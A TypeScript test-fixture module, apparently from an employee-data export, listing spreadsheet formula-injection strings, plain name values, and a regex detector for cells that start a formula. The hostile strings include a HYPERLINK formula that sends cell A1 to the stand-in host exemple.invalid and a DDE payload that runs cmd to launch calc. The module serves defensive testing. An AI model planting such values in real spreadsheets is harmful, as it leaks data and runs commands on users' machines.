/**
 * Texts an employee or an administrator could type (a name, a service, a position) that a spreadsheet
 * would run as a formula if written as they are: at the start, after spaces, after any separator a
 * spreadsheet may split on, with full-width forms and accents. Read by the export's tests (shared, web)
 * and by scripts/check-exports-in-libreoffice.mjs.
 */
export const spreadsheetHostileValues = [
  '=1+1',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")',
  ' =1+1',
  '   @SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'Bob;=HYPERLINK("http://exemple.invalid";"x")',
  'Bob; =1+1',
  'Bob,=1+1',
  'Bob, -2+3',
  'Bob\t+1',
  'Bob\t@SUM(1)',
  'Ligne 1\n=1+1',
  'Ligne 1\r\n-1+1',
  'a;b;c;=1+1;+2;-3;@4',
  '\u00A0=1+1',
  '\uFF1D1+1',
  "Zoé;=cmd|' /C calc'!A0",
  'Hélène; "=1+1"',
  "'=1+1",
  '"=1+1"',
] as const;

/** Harmless texts that must come back exactly as written. */
export const spreadsheetPlainValues = ['Éloïse', 'Jean-Noël', 'François Nœl', 'Gaëlle Ørsted', 'Łukasz Wężyk', 'Şükrü Çağlayan', 'Le "Grand"', 'Comptable, senior', 'R&D ; Qualité', "D'Arc"] as const;

/** True when a cell, as a spreadsheet would hold it after reading, starts a formula. */
export function startsFormula(cell: string): boolean {
  return /^[\p{Zs}\t\r\n]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell);
}
